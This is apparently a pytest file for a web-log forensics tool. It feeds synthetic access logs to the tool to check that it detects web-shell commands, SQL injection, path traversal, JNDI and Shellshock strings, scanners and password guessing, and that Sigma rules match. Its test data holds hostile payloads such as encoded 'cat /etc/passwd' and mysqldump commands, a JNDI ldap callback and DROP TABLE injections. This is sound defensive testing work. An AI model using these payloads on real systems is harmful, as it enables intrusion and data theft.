"""trace without a known path: --hunt, --sigma, decoded commands and the pivot's traps. Each claim is a pair of worlds: one in
which it is true, and one that only looks like it."""
import base64
import gzip
import json
import urllib.parse

import pytest

from sigma_lines import line_of
from test_trace import INTRUDER, Log, by_class, one


def hunts(result, what=None):
    return [f for f in by_class(result, "hunt") if what in (None, f["what"])]


def world(tmp_path, fill, days=1, clients=60):
    log = Log(7)
    log.visitors(hours=24 * days if days > 1 else 6, clients=clients, per_hour=60 if days > 1 else 200)
    fill(log)
    return log.write(tmp_path / "access.log")


def hunt(assay, log, code=None, *more):
    return assay("trace", "--json", log, "--hunt", *more, code=code)


# ---- commands ----

def argv(*words):
    return base64.b64encode(json.dumps(words).encode()).decode()


def test_commands_of_a_followed_path_are_decoded(assay, tmp_path):
    packed = base64.b64encode(gzip.compress(b"mysqldump -u shop shop > /tmp/x.sql", mtime=0)).decode()

    def fill(log):
        log.add(1000, INTRUDER, "GET", "/uploads/a.php?wp_meta=" + urllib.parse.quote(argv("cat", "/etc/passwd")), 200, 900)
        log.add(1010, INTRUDER, "GET", "/uploads/a.php?q=" + urllib.parse.quote(packed), 200, 950)
        log.add(1020, INTRUDER, "GET", "/uploads/a.php?h=" + b"uname -a".hex(), 200, 960)
        log.add(1030, INTRUDER, "GET", "/uploads/a.php?cmd=ls%20-la%20%7C%20wc", 200, 960)
        log.add(1040, INTRUDER, "GET", "/uploads/a.php?sid=d41d8cd98f00b204e9800998ecf8427e&token=Zm9vYmFyYmF6cXV1eHh4eHh4eHh4&page=12345678", 200, 400)

    result = assay("trace", "--json", world(tmp_path, fill), "--path", "/uploads/a.php", code=1)
    decoded = [(d["how"], d["text"]) for e in result.of_kind("event") for d in e.get("decoded", [])]
    assert decoded[:4] == [("base64+json-argv", "cat /etc/passwd"), ("base64+gzip", "mysqldump -u shop shop > /tmp/x.sql"),
                           ("hex", "uname -a"), ("text", "ls -la | wc")]
    # a session's hash is no text; a token that is text in base64 is shown as what it is
    assert decoded[4:] == [("base64", "foobarbazquuxxxxxxxxx")]


def test_a_shell_that_is_spoken_to_by_post_shows_no_commands_and_says_so(assay, tmp_path):
    def fill(log):
        for i in range(5):
            log.add(1000 + i, INTRUDER, "POST", "/uploads/a.php", 200, 388 + i)

    result = assay("trace", "--json", world(tmp_path, fill), "--path", "/uploads/a.php", code=1)
    assert not any("decoded" in e for e in result.of_kind("event"))
    assert any("request bodies" in r for r in one(by_class(result, "use"))["reasons"])


# ---- web shells, found without a path ----

def test_a_web_shell_is_found_and_followed(assay, tmp_path):
    def fill(log):
        log.intruder()
        for i, words in enumerate((["id"], ["uname", "-a"], ["ls", "/var/www"])):
            log.add(10060 + i, INTRUDER, "GET", "/uploads/a.php?wp_meta=" + urllib.parse.quote(argv(*words)), 200, 900 + i)

    log = world(tmp_path, fill)
    result = hunt(assay, log, 1)
    shell = one(hunts(result, "web-shell-command"))
    assert shell["address"] == INTRUDER and shell["confidence"] == "high" and shell["path"] == "/uploads/a.php"
    assert [e["decoded"] for e in shell["examples"]] == ["id", "uname -a", "ls /var/www"]
    use = {f["path"]: f for f in by_class(result, "use")}
    assert set(use) == {"/uploads/a.php", "/uploads/db.php"}  # the story follows, taking too
    assert one(f for f in by_class(result, "taking"))["export_bytes"] > 5_000_000
    assert any("the hunt found it" in r for r in use["/uploads/a.php"]["reasons"])
    line = log.read_text().splitlines()[shell["examples"][0]["line"] - 1]
    assert "wp_meta" in line


def test_without_hunt_nothing_of_this_is_said(assay, tmp_path):
    result = assay("trace", "--json", world(tmp_path, lambda log: log.intruder()), code=0)
    assert not result.of_kind("finding")


@pytest.mark.parametrize("query", ["q=find+shoes", "q=cat+food&sort=date", "type=net&c=home", "command=start", "s=curl+iron",
                                   "code=SAVE20", "state=eyJ1c2VyIjoiYW5uYSJ9", "cmd=_s-xclick&hosted_button_id=1"])
def test_words_that_are_programs_names_are_no_commands(assay, tmp_path, query):
    result = hunt(assay, world(tmp_path, lambda log: log.add(1000, "198.51.100.3", "GET", "/search.php?" + query, 200, 5000)), 0)
    assert not hunts(result)


def test_a_tunnel(assay, tmp_path):
    def fill(log):
        for i in range(20):
            log.add(1000 + i, INTRUDER, "POST", "/tunnel.php?cmd=" + ("connect&target=10.0.0.5&port=3306" if i == 0 else "read"), 200, 100 + i, agent="-")

    result = hunt(assay, world(tmp_path, fill), 1)
    assert one(hunts(result, "web-shell-tunnel"))["requests"] == 20
    assert one(by_class(result, "use"))["path"] == "/tunnel.php"


# ---- scripts ----

def test_a_script_in_a_folder_for_uploads(assay, tmp_path):
    result = hunt(assay, world(tmp_path, lambda log: log.intruder()), 1)
    assert {f["path"] for f in hunts(result, "script-in-upload-folder")} == {"/uploads/a.php", "/uploads/db.php"}


def test_a_thumbnailer_and_sources_for_download_are_none(assay, tmp_path):
    def fill(log):
        for i in range(200):
            log.add(100 + i * 50, f"198.51.100.{i % 60}", "GET", f"/images/thumb.php?id={i}", 200, 4000)
        log.add(900, "198.51.100.4", "GET", "/files/tool.py", 200, 4000)
        log.add(950, "198.51.100.5", "GET", "/uploads/missing.php", 404, 150)

    assert not hunts(hunt(assay, world(tmp_path, fill), 0))


def test_a_new_script_that_few_use_is_odd_and_a_deployment_is_not(assay, tmp_path):
    def shell(log):
        for i in range(4):
            log.add(5 * 86400 + i, INTRUDER, "POST", "/help/x.php", 200, 300)

    def deployment(log):
        for i in range(8):
            for j in range(3):
                log.add(5 * 86400 + i * 60 + j, "198.51.100.7", "POST", f"/new{i}/index.php", 200, 300)

    found = one(hunts(hunt(assay, world(tmp_path, shell, days=7), 1)))
    assert found["what"] == "new-script" and found["path"] == "/help/x.php" and found["confidence"] == "medium"
    result = hunt(assay, world(tmp_path, deployment, days=7), 0)
    assert not hunts(result)
    assert one(m for m in result.of_kind("measure") if m["class"] == "new-scripts")["count"] == 8


def test_an_administrators_folder_is_no_find(assay, tmp_path):
    def fill(log):
        for i in range(90):
            log.add(200 + i * 60, "198.51.100.9", "POST", f"/admin/{('posts', 'users', 'media2', 'orders')[i % 4]}.php", 200, 3000)

    assert not hunts(hunt(assay, world(tmp_path, fill), 0))


# ---- injections ----

SQL = ["id=1'+UNION+SELECT+1,2,3--+-", "id=1+and+1=1", "id=1%27%20or%20%27a%27=%27a", "id=-1%2527%20union%2520all%2520select%25201,user()",
       "id=1;WAITFOR+DELAY+'0:0:5'--", "id=1+AND+SLEEP(5)", "id=1/**/union/**/select/**/null,null", "id=(select+count(*)+from+users)",
       "id=1'+order+by+10--+-", "u=admin'--+-", "id=1+/*!50000union*/+/*!50000select*/+1,2", "id=1+or+updatexml(1,concat(0x7e,version()),1)",
       "id=1';DROP+TABLE+users;--"]
NOT_SQL = ["q=select", "q=select+a+hotel+from+the+list", "q=western+union+select+branch", "q=drop+table+tennis", "q=O'Brien", "q=rock+'n'+roll",
           "q=sleep(5)", "q=1+or+2+rooms", "q=men+and+women", "q=a--b", "q=%22union+select%22+tutorial", "q=insert+coin", "sort=price&order=by",
           "q=order+by+2+pm", "x=100%25+cotton+and+wool", "q=how+to+use+benchmark", "q=C%23+%3D%3D+5", "q=it's+5+>+4", "q=having+fun"]


@pytest.mark.parametrize("query", SQL)
def test_sql_in_a_value(assay, tmp_path, query):
    result = hunt(assay, world(tmp_path, lambda log: log.add(1000, INTRUDER, "GET", "/product.php?" + query, 200, 4000)), 1)
    found = one(hunts(result, "sql-injection"))
    assert found["confidence"] == "low" and any("may be innocent" in r for r in found["reasons"])


@pytest.mark.parametrize("query", NOT_SQL)
def test_words_of_sql_in_a_search_are_none(assay, tmp_path, query):
    assert not hunts(hunt(assay, world(tmp_path, lambda log: log.add(1000, "198.51.100.3", "GET", "/search.php?" + query, 200, 4000)), 0))


def test_an_injection_that_brought_something(assay, tmp_path):
    def fill(log):
        for i in range(30):
            log.add(1000 + i, INTRUDER, "GET", f"/item.php?id=1+and+{i}={i % 2}", 200, 3100)
        log.add(1100, INTRUDER, "GET", "/item.php?id=-1+union+select+1,group_concat(mail),3+from+users", 200, 81234)

    found = one(hunts(hunt(assay, world(tmp_path, fill), 1), "sql-injection"))
    assert found["confidence"] == "medium" and any("sign of success" in r and "81234" in r for r in found["reasons"])


@pytest.mark.parametrize("what, target, agent", [
    ("path-traversal", "/view.php?file=../../../../etc/passwd", "a"),
    ("path-traversal", "/static/..%2f..%2f..%2fetc/passwd", "a"),
    ("path-traversal", "/view.php?page=..%252f..%252f..%252fconfig", "a"),
    ("code-injection", "/?x=${jndi:ldap://203.0.113.5/a}", "a"),
    ("code-injection", "/", "${${lower:j}ndi:ldap://203.0.113.5/a}"),
    ("code-injection", "/index.php?page=php://filter/convert.base64-encode/resource=index", "a"),
    ("code-injection", "/cgi-bin/status", "() { :; }; /bin/id"),
])
def test_other_attacks_by_their_form(assay, tmp_path, what, target, agent):
    result = hunt(assay, world(tmp_path, lambda log: log.add(1000, INTRUDER, "GET", target, 404, 150, agent=agent)), 1)
    assert {f["what"] for f in hunts(result)} == {what}


@pytest.mark.parametrize("target", ["/a/../b.html", "/css/../../img/x.png", "/search.php?q=etc+passwd", "/blog/what-is-log4shell-jndi",
                                    "/redirect.php?to=https://example.org/a/b", "/t.php?price=${price}", "/wiki/Path_traversal?x=.."])
def test_links_that_only_look_like_it(assay, tmp_path, target):
    assert not hunts(hunt(assay, world(tmp_path, lambda log: log.add(1000, "198.51.100.3", "GET", target, 404, 150)), 0))


# ---- scanners ----

def test_a_scanner_and_a_crawler(assay, tmp_path):
    def scanner(log):
        for i in range(300):
            log.add(1000 + i / 5, INTRUDER, "GET", f"/{i:x}{['.php', '.bak', ''][i % 3]}", 404, 150)
        for probe in ("/.env", "/.git/config", "/vendor/phpunit/x", "/actuator/env"):
            log.add(1100, INTRUDER, "GET", probe, 404, 150)

    def crawler(log):
        for i in range(300):
            log.add(1000 + i * 40, "192.0.2.66", "GET", f"/old/{i}.html", 404 if i % 3 == 0 else 200, 900, agent="Mozilla/5.0 (compatible; Examplebot/2.1)")

    found = one(hunts(hunt(assay, world(tmp_path, scanner), 1)))
    assert found["what"] == "scanner" and found["address"] == INTRUDER and found["probes"] == 4
    assert 270 <= found["missed_paths"] <= 340
    assert not hunts(hunt(assay, world(tmp_path, crawler), 0))


def test_a_file_that_nobody_meant_to_hand_out(assay, tmp_path):
    def fill(log):
        log.add(1000, INTRUDER, "GET", "/.env", 200, 812)
        log.add(1001, INTRUDER, "GET", "/old/.git/config", 404, 150)

    found = one(hunts(hunt(assay, world(tmp_path, fill), 1)))
    assert found["what"] == "exposed-file" and found["examples"][0]["bytes"] == 812


# ---- passwords ----

def test_guessed_passwords_and_the_one_that_fitted(assay, tmp_path):
    def fill(log):
        for i in range(120):
            log.add(1000 + i * 2, INTRUDER, "POST", "/wp-login.php", 200, 4300 + i % 3)
        log.add(1300, INTRUDER, "POST", "/wp-login.php", 302, 0)

    found = one(hunts(hunt(assay, world(tmp_path, fill), 1), "guessed-passwords"))
    assert found["confidence"] == "medium" and found["in_a_row"] == 120 and found["changed"] == "2026-03-14T08:21:40Z"


def test_guesses_at_the_servers_own_sign_in(assay, tmp_path):
    def guessed(log):
        for i in range(40):
            log.add(1000 + i * 2, INTRUDER, "GET", "/private/", 401, 381)
        log.add(1081, INTRUDER, "GET", "/private/", 200, 5120, user="carla")

    def colleague(log):
        for i in range(40):  # a browser asks without a name first, each time
            log.add(1000 + i * 2, "198.51.100.9", "GET", "/private/", 401, 381)
            log.add(1001 + i * 2, "198.51.100.9", "GET", "/private/", 200, 5120, user="carla")

    def form(log):  # the form is fetched again between guesses, by somebody else's 401 the server's own sign-in is known
        log.add(900, "198.51.100.9", "GET", "/private/", 401, 381)
        for i in range(40):
            log.add(1000 + i * 2, INTRUDER, "POST", "/login", 401, 381)
            log.add(1001 + i * 2, INTRUDER, "GET", "/login", 200, 4000)

    found = one(hunts(hunt(assay, world(tmp_path, form), 1)))
    assert found["in_a_row"] == 40 and found["changed"] is None
    found = one(hunts(hunt(assay, world(tmp_path, guessed), 1)))
    assert found["what"] == "guessed-passwords" and found["confidence"] == "medium" and found["changed"] == "2026-03-14T08:18:01Z"
    assert not hunts(hunt(assay, world(tmp_path, colleague), 0))


def test_a_password_manager_and_an_office_are_none(assay, tmp_path):
    def fill(log):
        for i in range(5):
            log.add(1000 + i, "198.51.100.9", "POST", "/login", 200, 4300)
        log.add(1010, "198.51.100.9", "POST", "/login", 302, 0)
        for i in range(40):  # an office behind one address, nine o'clock
            log.add(3600 + i * 5, "192.0.2.10", "POST", "/login", 302, 0, agent=f"Mozilla/5.0 (Office {i % 12})")

    assert not hunts(hunt(assay, world(tmp_path, fill), 0))


def test_guesses_from_many_addresses_and_a_popular_login(assay, tmp_path):
    def spread(log):
        for i in range(150):
            log.add(1000 + i * 7, f"203.0.113.{i % 40}", "POST", "/login.php", 401, 90)

    def popular(log):
        for i in range(150):
            log.add(1000 + i * 7, f"203.0.113.{i % 70}", "POST", "/login.php", 302 if i % 5 else 401, 90)

    found = one(hunts(hunt(assay, world(tmp_path, spread), 1)))
    assert found["what"] == "guessed-passwords-spread" and found["clients"] == 40
    assert not hunts(hunt(assay, world(tmp_path, popular), 0))


# ---- the pivot's traps ----

def links(result, by):
    return [m for m in result.of_kind("measure") if m["class"] == "link" and m["by"] == by]


def test_one_browser_with_many_addresses_is_a_possible_link_and_no_merger(assay, tmp_path):
    def fill(agent):
        def add(log):
            log.add(1000, "203.0.113.1", "GET", "/uploads/a.php", 200, 400, agent=agent)
            log.add(1060, "203.0.113.2", "POST", "/uploads/a.php", 200, 400, agent=agent)
            log.add(9000, "203.0.113.3", "POST", "/uploads/a.php", 200, 400, agent=agent)
        return add

    rare = hunt(assay, world(tmp_path, fill("RareBrowser/1.0")), 1, "--path", "/uploads/a.php")
    link = one(links(rare, "agent"))
    assert (link["from"], link["to"], link["clients"]) == ("K1", ["K2"], 3) and link["weight"] > 3
    assert any("not merged" in r for r in link["reasons"])
    assert {f["client"] for f in by_class(rare, "use")} == {"K1", "K2", "K3"}
    common = hunt(assay, world(tmp_path, fill("Mozilla/5.0 (X11)")), 1, "--path", "/uploads/a.php")
    assert not links(common, "agent")


def test_a_path_that_led_further_says_how_rare_it_is(assay, tmp_path):
    result = assay("trace", "--json", world(tmp_path, lambda log: log.intruder()), "--path", "/uploads/a.php", code=1)
    link = one(links(result, "path"))
    assert link["from"] == "K1" and link["path"] == "/uploads/db.php" and link["hops"] == 1
    assert link["clients"] == 1 and link["weight"] > 5


def test_two_steps_and_no_more(assay, tmp_path):
    def fill(log):
        log.intruder()
        for hop in range(1, 5):  # each client leads to the next through a script of its own
            log.add(10400 + hop * 100, f"203.0.113.{100 + hop}", "GET", f"/uploads/{hop}.php" if hop > 1 else "/uploads/db.php", 200, 300)
            log.add(10450 + hop * 100, f"203.0.113.{100 + hop}", "GET", f"/uploads/{hop + 1}.php", 200, 300)

    result = assay("trace", "--json", world(tmp_path, fill), "--path", "/uploads/a.php", code=1)
    assert {(m["path"], m["hops"]) for m in links(result, "path")} == {("/uploads/db.php", 1), ("/uploads/2.php", 2)}


def test_a_client_column_that_is_a_load_balancers(assay, tmp_path):
    def fill(log):
        for i in range(4000):
            log.add(i * 3, "10.0.0.1", "GET", f"/p{i % 50}.html", 200, 900)

    log = Log(3)
    fill(log)
    result = assay("trace", "--json", log.write(tmp_path / "access.log"), code=0)
    assert one(m for m in result.of_kind("measure") if m["class"] == "client-column")["clients"] == 1
    log = Log(3)
    log.visitors(clients=60)
    result = assay("trace", "--json", log.write(tmp_path / "access.log"), code=0)
    assert not [m for m in result.of_kind("measure") if m["class"] == "client-column"]


FORWARDED = '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" "$http_x_forwarded_for"'


def forwarded_log(tmp_path, lists):
    log = Log(3)
    log.visitors(hours=2)
    text = "".join(line.rstrip("\n") + ' "-"\n' for line in log.text().splitlines())
    for i, (peer, forwarded) in enumerate(lists):
        text += f'{peer} - - [14/Mar/2026:11:00:{i:02d} +0000] "GET /uploads/a.php HTTP/1.1" 200 400 "-" "UA" "{forwarded}"\n'
    path = tmp_path / "access.log"
    path.write_text(text)
    return path


def test_the_client_behind_a_trusted_proxy(assay, tmp_path):
    log = forwarded_log(tmp_path, [("10.0.0.1", "203.0.113.5"), ("10.0.0.1", "192.0.2.1, 203.0.113.5"),
                                   ("10.0.0.1", "203.0.113.5, 10.0.0.2"), ("203.0.113.9", "192.0.2.2")])
    arguments = ("trace", "--json", log, "--path", "/uploads/a.php", "--log-format", FORWARDED)
    result = assay(*arguments, "--trusted-proxy", "10.0.0.0/8", code=1)
    use = {f["address"]: f for f in by_class(result, "use")}
    assert set(use) == {"203.0.113.5", "203.0.113.9"}  # what an untrusted sender says is not believed
    assert use["203.0.113.5"]["requests"] == 3 and use["203.0.113.5"]["connection"] == "10.0.0.1"
    assert use["203.0.113.5"]["forwarded_claims"] == 1 and use["203.0.113.9"]["connection"] is None
    plain = assay(*arguments, code=1)
    assert {f["address"] for f in by_class(plain, "use")} == {"10.0.0.1", "203.0.113.9"}
    assert "not used" in one(m for m in plain.of_kind("measure") if m["class"] == "forwarded-for")["means"]


def test_a_proxy_that_is_no_address(assay, tmp_path):
    log = forwarded_log(tmp_path, [])
    result = assay("trace", "--json", log, "--trusted-proxy", "10.0.0.0/40", code=64)
    assert "10.0.0.0/40" in result.err and "10.0.0.0/8" in result.err


# ---- Sigma ----

RULE = """title: {title}
id: {id}
status: test
level: {level}
tags: [attack.t1190]
logsource:
    category: {category}
detection:
{detection}
"""


def rules(tmp_path, *texts, **kwargs):
    folder = tmp_path / "rules" / "web"
    folder.mkdir(parents=True, exist_ok=True)
    for i, text in enumerate(texts):
        values = {"title": f"rule {i}", "id": f"00000000-0000-4000-8000-{i:012d}", "level": "high", "category": "webserver", **kwargs}
        values["detection"] = "".join("    " + line + "\n" for line in text.splitlines())
        (folder / f"rule{i}.yml").write_text(RULE.format(**values))
    return folder.parent


DETECTIONS = [
    "selection:\n    cs-uri-query|contains: '/mgmt/tm/util/bash'\ncondition: selection",
    "selection:\n    cs-method: POST\n    cs-uri-query|contains|all:\n        - '/up.action'\n        - 'name=../../'\ncondition: selection",
    "a:\n    cs-uri-stem|endswith: '.bak'\nb:\n    sc-status: 200\ncondition: a and b",
    "selection_one:\n    c-uri|startswith: '/cgi-bin/'\nselection_two:\n    c-uri|contains: 'xyzzy'\ncondition: 1 of selection_*",
    "keywords:\n    - 'evil?thing'\n    - 'other*thing'\ncondition: keywords",
    "selection:\n    c-useragent|re: 'Bad[A-Z]{2}\\d+/(1|2)\\.0'\ncondition: selection",
    "selection:\n    cs-uri-query|base64offset|contains: 'cat /etc/passwd'\ncondition: selection",
    "x_1:\n    cs-uri-stem: '/one'\nx_2:\n    cs-method: GET\nx_3:\n    sc-status: 404\ncondition: 2 of x_*",
    "selection:\n    c-ip|cidr: '198.51.100.0/24'\n    cs-uri-stem: '/office-only'\ncondition: selection",
    "selection:\n    sc-bytes|gt: 999999\n    cs-uri-stem: '/big'\ncondition: selection",
]
LINES = ["GET /mgmt/tm/util/bash", "POST /up.action?name=../../x", "GET /x.bak", "GET /cgi-bin/a", "GET /a?q=evil%3Fthing", "agent BadXY12/2.0",
         "GET /?p=" + base64.b64encode(b"x; cat /etc/passwd").decode(), "GET /one", "client 198.51.100.7 /office-only", "GET /big"]


def sigma_log(tmp_path, rows):
    log = Log(1)
    for i, row in enumerate(rows):
        kind, rest = row.split(" ", 1)
        if kind == "agent":
            log.add(i, "203.0.113.1", "GET", "/", 200, 100, agent=rest)
        elif kind == "client":
            log.add(i, rest.split()[0], "GET", rest.split()[1], 200, 100)
        else:
            log.add(i, "203.0.113.1", kind, rest, 200, 1000000 if rest == "/big" else 100)
    return log.write(tmp_path / "access.log")


def sigma_of(result):
    return {f["rule"][-2:]: f for f in by_class(result, "sigma")}


def test_rules_match_the_lines_that_they_describe(assay, tmp_path):
    folder = rules(tmp_path, *DETECTIONS)
    result = assay("trace", "--json", sigma_log(tmp_path, LINES), "--sigma", folder, code=1)
    found = sigma_of(result)
    assert {k: [e["line"] for e in f["examples"]] for k, f in found.items()} == {
        f"{i:02d}": [i + 1] for i in range(10) if i != 7} | {"07": [8]}
    finding = found["00"]
    assert finding["level"] == "high" and finding["tags"] == ["attack.t1190"] and finding["requests"] == 1 and finding["title"] == "rule 0"


def test_lines_that_only_look_so_match_no_rule(assay, tmp_path):
    folder = rules(tmp_path, *DETECTIONS)
    rows = ["GET /mgmt/tm/util/dash", "GET /up.action?name=../../x", "GET /x.bak.html", "GET /a/cgi-bin/", "GET /a?q=evil%3F%3Fthing", "agent BadXY12/3.0",
            "GET /?p=" + base64.b64encode(b"x; cat /etc/passwe").decode(), "POST /one", "client 198.51.101.7 /office-only", "GET /small"]
    result = assay("trace", "--json", sigma_log(tmp_path, rows), "--sigma", folder, code=0)
    assert not by_class(result, "sigma")


REFUSED = [
    ("selection:\n    cs-method: GET\ncondition: selection | count() by c-ip > 10", "counts or relates lines"),
    ("selection:\n    cs-method: GET\ncondition: selection and other", "names a search that is not there"),
    ("selection:\n    cs-method|fieldref: c-ip\ncondition: selection", "modifier 'fieldref' is not supported"),
    ("selection:\n    cs-uri|re: '(?=x)y'\ncondition: selection", "look-around"),
    ("selection:\n    c-ip|cidr: '300.1.1.1/8'\ncondition: selection", "is no network"),
    ("selection:\n    cs-method: [GET\ncondition: selection", ""),
    ("selection:\n    cs-method: GET", "no condition"),
    ("selection:\n    cs-cookie|contains: 'x'\ncondition: selection", "do not record cs-cookie"),
]


@pytest.mark.parametrize("detection, why", REFUSED)
def test_a_rule_that_is_not_tried_is_counted_with_its_reason(assay, tmp_path, detection, why):
    folder = rules(tmp_path, detection, DETECTIONS[0])
    result = assay("trace", "--json", sigma_log(tmp_path, LINES[:1]), "--sigma", folder, code=1)
    refused = one(c for c in result.of_kind("coverage") if c["class"].startswith("rule not tried: "))
    assert why in refused["class"] and refused["source"].endswith("rule0.yml")
    assert set(sigma_of(result)) == {"01"}  # the other one was tried
    if "record" not in why:
        assert "rule0.yml" in result.err and "rule not tried" in result.err


def test_a_run_without_one_of_its_rules_is_not_complete(assay, tmp_path):
    result = assay("trace", "--json", sigma_log(tmp_path, LINES), "--sigma", rules(tmp_path, REFUSED[0][0]), code=2)
    assert not result.summary["complete"]


def test_rules_for_other_logs_are_counted(assay, tmp_path):
    folder = rules(tmp_path, DETECTIONS[0], category="process_creation")
    result = assay("trace", "--json", sigma_log(tmp_path, LINES), "--sigma", folder, code=0)
    assert one(c for c in result.of_kind("coverage") if c["class"] == "rules for other logs")["count"] == 1


def test_a_folder_of_rules_that_is_not_there(assay, tmp_path):
    result = assay("trace", "--json", sigma_log(tmp_path, LINES), "--sigma", tmp_path / "none", code=2)
    assert "none" in result.err


def test_each_rule_matches_a_line_made_from_its_own_text(assay, tmp_path):
    yaml = pytest.importorskip("yaml")
    folder = rules(tmp_path, *(DETECTIONS[i] for i in (0, 1, 2, 3, 4)))
    lines, wanted = [], set()
    for path in sorted(folder.rglob("*.yml")):
        rule = yaml.safe_load(path.read_text())
        lines.append(line_of(rule))
        wanted.add(rule["id"])
    log = tmp_path / "access.log"
    log.write_text("".join(lines))
    result = assay("trace", "--json", log, "--sigma", folder, code=1)
    assert {f["rule"] for f in by_class(result, "sigma")} == wanted


def test_threads_change_nothing(assay, tmp_path):
    def fill(log):
        log.intruder()
        for i in range(300):
            log.add(1000 + i / 5, INTRUDER, "GET", f"/{i:x}?id=1+and+{i}=1", 404, 150)

    log = world(tmp_path, fill)
    folder = rules(tmp_path, *DETECTIONS)
    outputs = []
    for jobs in ("1", "4"):
        result = assay("trace", "--json", log, "--hunt", "--sigma", folder, "--jobs", jobs, code=1)
        outputs.append([r for r in result.records if r["kind"] != "summary"])
    assert outputs[0] == outputs[1]


def test_rules_and_hunt_read_what_json_wrote_escaped(assay, tmp_path):
    """The fields of a JSON log are unescaped elsewhere than in the line: rules must look there too."""
    folder = rules(tmp_path, "selection:\n    cs-uri-query|contains: '\"/../evil'\ncondition: selection",
                   "selection:\n    cs-user-agent|contains: 'Bad\"Agent'\ncondition: selection")
    rows = [("203.0.113.77", '/x"/../evil', "UA"), ("203.0.113.78", "/y?id=1'+union+select+1,2--+-", 'a Bad"Agent b'), ("203.0.113.79", "/z", "UA")]
    text = "".join(json.dumps({"time": f"2026-03-14T10:00:{i:02d}+00:00", "remote_addr": client, "request": f"GET {target} HTTP/1.1", "status": 200,
                               "body_bytes_sent": 400, "http_referer": "-", "http_user_agent": agent}) + "\n" for i, (client, target, agent) in enumerate(rows * 3))
    log = tmp_path / "access.json"
    log.write_text(text.replace('evil', '\\u0065vil').replace("union", "\\u0075nion"))
    result = assay("trace", "--json", log, "--sigma", folder, "--hunt", code=1)
    assert {k: f["requests"] for k, f in sigma_of(result).items()} == {"00": 3, "01": 3}
    assert one(hunts(result))["what"] == "sql-injection" and one(hunts(result))["requests"] == 3


def test_a_rule_about_databases_is_tried_on_statements_alone(assay, tmp_path):
    folder = rules(tmp_path, "keywords:\n    - 'select \\* from customers'\ncondition: keywords", category="database")
    log = tmp_path / "general.log"
    rows = [(8, "Connect", "shop@localhost on shop using Socket"), (8, "Query", "SELECT * FROM customers INTO OUTFILE '/tmp/x'"), (8, "Query", "SELECT 1"),
            (8, "Quit", "")]
    log.write_text("/usr/sbin/mariadbd, Version: 10.11.6-MariaDB-0+deb12u1-log (Debian 12). started with:\nTcp port: 3306  Unix socket: /run/mysqld/mysqld.sock\n"
                   "Time\t\t    Id Command\tArgument\n" + "".join(f"260314 21:47:{i:02d}\t{n:6d} {command}\t{text}\n" for i, (n, command, text) in enumerate(rows)))
    result = assay("trace", "--json", log, "--sigma", folder)
    found = one(by_class(result, "sigma"))
    assert found["requests"] == 1 and found["examples"][0]["request"].startswith("SELECT * FROM customers")
    web = sigma_log(tmp_path, ["GET /?q=select%20*%20from%20customers"])
    result = assay("trace", "--json", web, "--sigma", folder)
    assert not by_class(result, "sigma")
    assert one(c for c in result.of_kind("coverage") if c["class"].startswith("rule not tried"))["class"].endswith("no log of its kind is here")
